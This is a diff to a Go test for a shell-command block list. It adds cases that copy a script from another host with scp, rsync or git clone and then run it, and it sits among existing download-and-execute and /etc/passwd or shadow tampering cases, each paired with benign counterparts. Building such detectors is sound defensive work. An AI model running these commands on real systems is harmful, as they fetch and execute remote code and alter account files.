@@ -211,10 +211,15 @@ func TestBlacklistByMeaning(t *testing.T) {
 			"curl -o s http://x && sh s", "curl -fsSL http://x -o i.sh && bash ./i.sh", "wget http://x/s.sh; bash s.sh", "curl http://x > /tmp/s; bash /tmp/s",
 			"wget --output-document=s http://x; . ./s", "curl http://x >s; chmod +x s; ./s", "curl -sO http://x/s.py; python3 s.py",
 			// xargs hands the download to a shell's -c as words
-			"curl -s x | xargs -0 bash -c", "curl x | xargs -I{} sh -c {}", "wget -qO- x | xargs -0 python3 -c", "curl x | xargs -i sh -c 'echo {}'"},
+			"curl -s x | xargs -0 bash -c", "curl x | xargs -I{} sh -c {}", "wget -qO- x | xargs -0 python3 -c", "curl x | xargs -i sh -c 'echo {}'",
+			// copies from another host, then run
+			"scp h:x . && sh x", "scp -P 22 user@h:/tmp/i.sh /tmp/ && bash /tmp/i.sh", "rsync -a h:s.sh ./s.sh && ./s.sh",
+			"git clone https://x/r && bash r/install.sh", "git clone git@github.com:o/r.git d; ./d/install.sh"},
 			[]string{"curl -o x.sh x", "curl x | jq .", "wget x && tar xf x", "bash script.sh", "curl -o data.json http://x && jq . data.json",
 				"wget http://x/a.tar.gz; tar xf a.tar.gz", "curl -d @x.sh http://x; bash x.sh", "bash s; curl -o s http://x",
-				"curl x | xargs -n1 echo", "curl x | xargs grep foo", "cat list | xargs -I{} sh -c {}", "curl x | xargs -I{} cp {} /tmp"}},
+				"curl x | xargs -n1 echo", "curl x | xargs grep foo", "cat list | xargs -I{} sh -c {}", "curl x | xargs -I{} cp {} /tmp",
+				"scp x h:y && sh x", "scp a b && sh b", "git clone https://x/r && ls r", "bash install.sh; git clone https://x/r",
+				"git clone ../lib && bash lib/setup.sh", "rsync -a h:dir/ ./dir/ && cat dir/README"}},
 		{"overwrite-account-files", []string{"mv /etc/passwd /tmp/p", "truncate -s 0 /etc/shadow", "sed -i s/x/y/ /etc/passwd", "perl -pi -e s/x/y/ /etc/group",
 			"passwd -d root", "usermod -aG sudo bob", "chpasswd < list", "vipw", "echo x >> /etc/sudoers.d/me", "cp x /proc/self/root/etc/shadow",
 			"echo 'x::0:0::/:/bin/sh' >> /etc/passwd", "ln -sf x /etc/gshadow",
